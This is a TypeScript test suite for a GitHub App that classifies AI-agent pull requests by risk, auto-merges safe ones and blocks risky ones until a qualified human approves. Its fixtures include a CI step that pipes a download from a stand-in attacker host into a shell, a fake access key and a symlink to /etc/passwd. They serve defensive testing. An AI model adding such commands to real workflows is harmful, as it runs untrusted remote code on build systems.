import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { startWorld, type World } from './harness.js';

const AGENT = 'copilot-swe-agent[bot]';
const CHECK = 'agent-zones: main';

let w: World;
let n = 0;

interface RepoOpts {
  config?: string;
  allowAutoMerge?: boolean;
  protect?: boolean | 'ruleset';
  extraRequired?: string[];
}

/** A fresh repository per test: README, source, docs; main requires the App's check unless told otherwise. */
function repo(opts: RepoOpts = {}): string {
  const name = `acme/repo-${++n}`;
  const files: Record<string, string> = {
    'README.md': '# widgets\n',
    'src/index.ts': 'export const x = 1;\n',
    'docs/guide.md': '# Guide\n',
    'package.json': '{\n  "name": "widgets",\n  "version": "1.0.0"\n}\n',
  };
  if (opts.config) files['.github/agent-zones.yml'] = opts.config;
  w.sim.createRepo(name, { allowAutoMerge: opts.allowAutoMerge ?? true, files, installationId: w.installation });
  for (const [login, perm] of [
    ['alice', 'write'],
    ['bob', 'maintain'],
    ['carol', 'admin'],
    ['reader', 'read'],
    ['mallory', 'write'],
    [AGENT, 'write'],
  ] as const) {
    w.sim.addCollaborator(name, login, perm);
  }
  if (opts.protect !== false) {
    w.sim.protectBranch(name, 'main', { requiredChecks: [CHECK, ...(opts.extraRequired ?? [])], via: opts.protect === 'ruleset' ? 'ruleset' : 'protection' });
  }
  return name;
}

async function agentPr(name: string, branch: string, changes: Record<string, string | null>, author = AGENT): Promise<number> {
  w.sim.commit(name, branch, changes, { author });
  const pr = await w.sim.openPullRequest(name, { head: branch, author, title: `change on ${branch}` });
  await w.sim.idle();
  return pr;
}

function checks(name: string, sha: string) {
  return w.sim.checkRuns(name, sha).filter((c) => c.name === CHECK);
}

function only(name: string, pr: number) {
  const head = w.sim.pull(name, pr).head;
  const runs = checks(name, head);
  assert.equal(runs.length, 1, `one check run per head SHA, got ${runs.length}`);
  return runs[0]!;
}

before(async () => {
  w = await startWorld();
  for (const u of ['alice', 'bob', 'carol', 'reader', 'mallory', 'human-dev']) w.sim.addUser(u, 'User');
  w.sim.addUser(AGENT, 'Bot');
  w.sim.addUser('renovate[bot]', 'Bot');
});
after(async () => w.stop());

describe('green: docs-only agent PR', () => {
  test('is auto-merged, pinned to the classified head', async () => {
    const r = repo({ extraRequired: ['ci / test'] });
    const pr = await agentPr(r, 'copilot/docs', { 'docs/guide.md': '# Guide\n\nMore.\n', 'docs/new.md': '# New\n' });
    const state = w.sim.pull(r, pr);
    const run = only(r, pr);
    assert.equal(run.conclusion, 'success');
    assert.deepEqual(w.sim.labels(r, pr), ['zone: green']);
    assert.equal(state.merged, false, 'another required check is still pending');
    assert.equal(state.autoMerge?.expectedHeadOid, state.head);
    await w.sim.setExternalCheck(r, state.head, 'ci / test', 'success');
    await w.sim.idle();
    const merged = w.sim.pull(r, pr);
    assert.equal(merged.merged, true);
    assert.equal(merged.mergedSha !== null, true);
  });

  test('when GitHub answers "clean status", it merges through REST with the head sha', async () => {
    const r = repo();
    const pr = await agentPr(r, 'copilot/docs2', { 'docs/a.md': '# A\n' });
    const state = w.sim.pull(r, pr);
    assert.equal(state.merged, true);
    const merge = w.sim.requests.find((q) => q.method === 'PUT' && q.path === `/api/v3/repos/${r}/pulls/${pr}/merge`);
    assert.ok(merge, 'REST merge used');
  });

  test('where the repository does not allow auto-merge: REST merge once the other required checks pass', async () => {
    const r = repo({ allowAutoMerge: false, extraRequired: ['ci / test'] });
    const pr = await agentPr(r, 'copilot/docs3', { 'docs/b.md': '# B\n' });
    assert.equal(w.sim.pull(r, pr).merged, false);
    await w.sim.setExternalCheck(r, w.sim.pull(r, pr).head, 'ci / test', 'success');
    await w.sim.idle();
    assert.equal(w.sim.pull(r, pr).merged, true);
  });

  test('an unrequired check never merges, and the check says how to make it required', async () => {
    const r = repo({ protect: false });
    const pr = await agentPr(r, 'copilot/docs4', { 'docs/c.md': '# C\n' });
    const state = w.sim.pull(r, pr);
    assert.equal(state.merged, false);
    assert.equal(state.autoMerge, null);
    const run = only(r, pr);
    assert.equal(run.conclusion, 'success');
    assert.match(run.output?.summary ?? '', /does not require the check/);
  });

  test('a ruleset that requires the check counts as required', async () => {
    const r = repo({ protect: 'ruleset', extraRequired: ['ci / test'] });
    const pr = await agentPr(r, 'copilot/docs5', { 'docs/d.md': '# D\n' });
    assert.ok(w.sim.pull(r, pr).autoMerge);
  });
});

describe('yellow', () => {
  test('a source change with a new dependency is labelled, succeeds, and is not merged', async () => {
    const r = repo();
    const pr = await agentPr(r, 'copilot/feature', {
      'src/feature.ts': 'export const feature = () => 42;\n',
      'package.json': '{\n  "name": "widgets",\n  "version": "1.0.0",\n  "dependencies": { "left-pad": "^1.3.0" }\n}\n',
    });
    const run = only(r, pr);
    assert.equal(run.conclusion, 'success');
    assert.deepEqual(w.sim.labels(r, pr), ['zone: yellow']);
    const state = w.sim.pull(r, pr);
    assert.equal(state.merged, false);
    assert.equal(state.autoMerge, null);
    assert.match(run.output?.text ?? '', /path:dependency-manifest/);
  });
});

describe('red', () => {
  async function redPr(): Promise<{ r: string; pr: number }> {
    const r = repo({ config: 'version: 1\napprovals:\n  users: [alice, bob, carol, reader, mallory, human-dev]\n' });
    const pr = await agentPr(r, 'copilot/risky', { 'docs/guide.md': null, 'src/key.ts': 'export const k = "AKIAZ5Q3XJ7K2M4N6P8R";\n' });
    return { r, pr };
  }

  test('is blocked: failure check, red label, reviewers requested, nothing merged', async () => {
    const { r, pr } = await redPr();
    const run = only(r, pr);
    assert.equal(run.conclusion, 'failure');
    assert.deepEqual(w.sim.labels(r, pr), ['zone: red']);
    assert.match(run.output?.text ?? '', /change:delete/);
    assert.match(run.output?.text ?? '', /content:secret/);
    assert.match(run.output?.summary ?? '', /What unlocks it/);
    assert.ok(w.sim.requestedReviewers(r, pr).users.includes('alice'));
    assert.equal(w.sim.pull(r, pr).merged, false);
    assert.ok(run.annotations.length > 0, 'annotations on the lines that drove the zone');
  });

  test('stays blocked for each unqualified approval, and unlocks for a qualified one on the head', async () => {
    const { r, pr } = await redPr();
    const head = w.sim.pull(r, pr).head;
    // A comment, the author, a bot, a read-only user, a committer.
    await w.sim.comment(r, pr, 'alice', 'LGTM, approved!');
    await w.sim.submitReview(r, pr, { user: AGENT, state: 'APPROVED' });
    await w.sim.submitReview(r, pr, { user: 'renovate[bot]', state: 'APPROVED' });
    await w.sim.submitReview(r, pr, { user: 'reader', state: 'APPROVED' });
    w.sim.commit(r, 'copilot/risky', { 'docs/extra.md': 'x\n' }, { author: 'mallory' });
    await w.sim.push(r, pr, {}, { author: 'mallory' });
    await w.sim.idle();
    const head2 = w.sim.pull(r, pr).head;
    assert.notEqual(head2, head);
    await w.sim.submitReview(r, pr, { user: 'mallory', state: 'APPROVED' });
    await w.sim.idle();
    assert.equal(only(r, pr).conclusion, 'failure');
    assert.match(only(r, pr).output?.summary ?? '', /pushed a commit/);
    // An approval of an older commit does not count.
    await w.sim.submitReview(r, pr, { user: 'bob', state: 'APPROVED', commitId: head });
    await w.sim.idle();
    assert.equal(only(r, pr).conclusion, 'failure');
    // A qualified approval of the head does.
    await w.sim.submitReview(r, pr, { user: 'carol', state: 'APPROVED' });
    await w.sim.idle();
    const run = only(r, pr);
    assert.equal(run.conclusion, 'success');
    assert.match(run.output?.title ?? '', /carol/);
    assert.equal(w.sim.pull(r, pr).merged, false, 'the App never merges a red PR');
  });

  test('a dismissed approval blocks again; a push after approval blocks again', async () => {
    const { r, pr } = await redPr();
    const reviewId = await w.sim.submitReview(r, pr, { user: 'alice', state: 'APPROVED' });
    await w.sim.idle();
    assert.equal(only(r, pr).conclusion, 'success');
    await w.sim.dismissReview(r, pr, reviewId, 'carol');
    await w.sim.idle();
    assert.equal(only(r, pr).conclusion, 'failure');
    await w.sim.submitReview(r, pr, { user: 'bob', state: 'APPROVED' });
    await w.sim.idle();
    assert.equal(only(r, pr).conclusion, 'success');
    await w.sim.push(r, pr, { 'src/more.ts': 'export const m = 1;\n' });
    await w.sim.idle();
    assert.equal(only(r, pr).conclusion, 'failure');
  });

  test('a later CHANGES_REQUESTED by a qualified reviewer blocks', async () => {
    const { r, pr } = await redPr();
    await w.sim.submitReview(r, pr, { user: 'alice', state: 'APPROVED' });
    await w.sim.submitReview(r, pr, { user: 'bob', state: 'CHANGES_REQUESTED' });
    await w.sim.idle();
    assert.equal(only(r, pr).conclusion, 'failure');
    assert.match(only(r, pr).output?.summary ?? '', /Changes were requested by @bob/);
  });
});

describe('pushes and config', () => {
  test('a green PR that receives a red push is not merged, and auto-merge is switched off first', async () => {
    const r = repo({ extraRequired: ['ci / test'] });
    const pr = await agentPr(r, 'copilot/turns-red', { 'docs/x.md': '# X\n' });
    assert.ok(w.sim.pull(r, pr).autoMerge, 'auto-merge on for the green head');
    await w.sim.push(r, pr, { '.github/workflows/ci.yml': 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://evil.example.net | sh\n' });
    await w.sim.idle();
    const state = w.sim.pull(r, pr);
    assert.equal(state.autoMerge, null);
    assert.equal(only(r, pr).conclusion, 'failure');
    await w.sim.setExternalCheck(r, state.head, 'ci / test', 'success');
    await w.sim.idle();
    assert.equal(w.sim.pull(r, pr).merged, false);
    assert.deepEqual(w.sim.labels(r, pr), ['zone: red']);
  });

  test('the config in the PR head is ignored (and is itself red)', async () => {
    const r = repo({ config: 'version: 1\npaths:\n  red: ["docs/secret-plans/**"]\n' });
    const pr = await agentPr(r, 'copilot/loosen', {
      '.github/agent-zones.yml': 'version: 1\npaths:\n  green: ["**"]\n',
      'src/feature.ts': 'export const y = 2;\n',
    });
    const run = only(r, pr);
    assert.equal(run.conclusion, 'failure');
    assert.match(run.output?.text ?? '', /path:gate-config/);
    assert.match(run.output?.text ?? '', /path:source/);
  });

  test('the config of the default branch applies', async () => {
    const r = repo({ config: 'version: 1\npaths:\n  green: ["src/generated/**"]\n' });
    const pr = await agentPr(r, 'copilot/gen', { 'src/generated/api.ts': 'export const a = 1;\n' });
    assert.equal(only(r, pr).conclusion, 'success');
    assert.deepEqual(w.sim.labels(r, pr), ['zone: green']);
  });

  test('an invalid config fails closed: red config:invalid with line and column', async () => {
    const r = repo({ config: 'version: 1\npaths:\n  gren: ["x/**"]\n' });
    const pr = await agentPr(r, 'copilot/any', { 'docs/y.md': '# Y\n' });
    const run = only(r, pr);
    assert.equal(run.conclusion, 'failure');
    assert.match(run.output?.summary ?? '', /config:invalid/);
    assert.match(run.output?.summary ?? '', /agent-zones\.yml:3:3/);
    assert.equal(w.sim.pull(r, pr).merged, false);
  });

  test('a human PR gets a neutral check and no label', async () => {
    const r = repo();
    w.sim.commit(r, 'feature/human', { 'src/h.ts': 'export const h = 1;\n' }, { author: 'human-dev' });
    const pr = await w.sim.openPullRequest(r, { head: 'feature/human', author: 'human-dev' });
    await w.sim.idle();
    const run = only(r, pr);
    assert.equal(run.conclusion, 'neutral');
    assert.deepEqual(w.sim.labels(r, pr), []);
  });

  test('an agent branch prefix makes a PR by a human account an agent PR', async () => {
    const r = repo();
    w.sim.commit(r, 'claude/fix', { 'src/c.ts': 'export const c = 1;\n' }, { author: 'human-dev' });
    const pr = await w.sim.openPullRequest(r, { head: 'claude/fix', author: 'human-dev' });
    await w.sim.idle();
    assert.deepEqual(w.sim.labels(r, pr), ['zone: yellow']);
  });
});

describe('idempotency and loops', () => {
  test('a redelivered webhook updates the same check run; labels stay single', async () => {
    const r = repo();
    const pr = await agentPr(r, 'copilot/redeliver', { 'src/a.ts': 'export const a = 1;\n' });
    const before = only(r, pr);
    const last = w.sim.deliveries.filter((d) => d.event === 'pull_request').at(-1)!;
    assert.ok(last);
    w.sim.setDelivery({ duplicate: true });
    await w.sim.push(r, pr, { 'src/b.ts': 'export const b = 1;\n' });
    await w.sim.idle();
    w.sim.setDelivery({});
    const after = only(r, pr);
    assert.notEqual(after.head_sha, before.head_sha);
    assert.deepEqual(w.sim.labels(r, pr), ['zone: yellow']);
  });

  test('a zone label removed or added by hand changes nothing (the right one comes back)', async () => {
    const r = repo();
    const pr = await agentPr(r, 'copilot/labels', { 'src/l.ts': 'export const l = 1;\n' });
    await w.sim.addLabelByHand(r, pr, 'zone: green', 'mallory');
    await w.sim.idle();
    assert.deepEqual(w.sim.labels(r, pr), ['zone: yellow']);
    assert.equal(w.sim.pull(r, pr).merged, false);
    await w.sim.removeLabelByHand(r, pr, 'zone: yellow', 'mallory');
    await w.sim.idle();
    assert.deepEqual(w.sim.labels(r, pr), ['zone: yellow']);
  });

  test('the App’s own check-run and label events cause no further decisions', async () => {
    const r = repo();
    const before = w.logs.filter((l) => l.msg === 'agent-zones: decision').length;
    await agentPr(r, 'copilot/loop', { 'src/z.ts': 'export const z = 1;\n' });
    await w.sim.idle();
    const after = w.logs.filter((l) => l.msg === 'agent-zones: decision').length;
    assert.equal(after - before, 1);
  });

  test('a check re-run decides again on the same check run', async () => {
    const r = repo();
    const pr = await agentPr(r, 'copilot/rerun', { 'src/q.ts': 'export const q = 1;\n' });
    const run = only(r, pr);
    await w.sim.rerequestCheck(r, run.id);
    await w.sim.idle();
    assert.equal(only(r, pr).id, run.id);
  });
});

describe('what GitHub does not show', () => {
  test('a file whose patch GitHub omits makes the PR red (pr:truncated)', async () => {
    const r = repo();
    w.sim.omitPatch(r, 'src/huge.ts');
    const pr = await agentPr(r, 'copilot/huge', { 'src/huge.ts': 'export const big = 1;\n' });
    const run = only(r, pr);
    assert.equal(run.conclusion, 'failure');
    assert.match(run.output?.text ?? '', /pr:truncated/);
  });

  test('a symlink and an executable bit are seen through the tree modes', async () => {
    const r = repo();
    const pr = await agentPr(r, 'copilot/modes', {
      'docs/link.md': { content: '../../etc/passwd', mode: '120000' } as unknown as string,
      'scripts/run.sh': { content: 'echo hi\n', mode: '100755' } as unknown as string,
    });
    const run = only(r, pr);
    assert.equal(run.conclusion, 'failure');
    assert.match(run.output?.text ?? '', /change:symlink/);
    assert.match(run.output?.text ?? '', /change:exec-bit/);
  });
});

describe('merge queue and retarget', () => {
  test('a merge group gets a check: success for a decided green PR', async () => {
    const r = repo({ extraRequired: ['ci / test'] });
    const pr = await agentPr(r, 'copilot/queue', { 'docs/q.md': '# Q\n' });
    const groupSha = await w.sim.enqueueMergeGroup(r, pr);
    await w.sim.idle();
    const runs = w.sim.checkRuns(r, groupSha).filter((c) => c.name === CHECK);
    assert.equal(runs.length, 1);
    assert.equal(runs[0]?.conclusion, 'success');
  });

  test('a merge group of an undecided red PR fails', async () => {
    const r = repo({ extraRequired: ['ci / test'] });
    const pr = await agentPr(r, 'copilot/queue-red', { 'docs/guide.md': null });
    const groupSha = await w.sim.enqueueMergeGroup(r, pr);
    await w.sim.idle();
    assert.equal(w.sim.checkRuns(r, groupSha).find((c) => c.name === CHECK)?.conclusion, 'failure');
  });

  test('a retarget to another base decides under that base’s check name', async () => {
    const r = repo({ extraRequired: ['ci / test'] });
    w.sim.commit(r, 'release', {}, { author: 'carol' });
    const pr = await agentPr(r, 'copilot/retarget', { 'docs/r.md': '# R\n' });
    await w.sim.retarget(r, pr, 'release', 'mallory');
    await w.sim.idle();
    const head = w.sim.pull(r, pr).head;
    assert.equal(w.sim.checkRuns(r, head).filter((c) => c.name === 'agent-zones: release').length, 1);
  });
});

describe('webhook security', () => {
  test('a bad signature is rejected before anything happens', async () => {
    const before = w.sim.requests.length;
    const res = await w.sim.deliver('pull_request', { action: 'opened', number: 1 }, { signature: 'sha256=' + '0'.repeat(64) });
    assert.ok(res.status >= 400 && res.status < 500, String(res.status));
    assert.equal(w.sim.requests.length, before);
  });
});

describe('API cost', () => {
  test('a 20-file green PR costs at most 6 requests (token creation excluded)', async () => {
    const r = repo({ extraRequired: ['ci / test'] });
    // A first PR creates the zone labels of the repository once.
    await agentPr(r, 'copilot/warm', { 'docs/warm.md': '# W\n' });
    const files: Record<string, string> = {};
    for (let i = 0; i < 20; i++) files[`docs/page-${i}.md`] = `# Page ${i}\n`;
    const start = w.sim.requests.length;
    await agentPr(r, 'copilot/twenty', files);
    const used = w.sim.requests.slice(start).filter((q) => !q.path.endsWith('/access_tokens'));
    assert.ok(used.length <= 6, used.map((q) => `${q.method} ${q.path} ${q.operation ?? ''}`).join('\n'));
  });
});
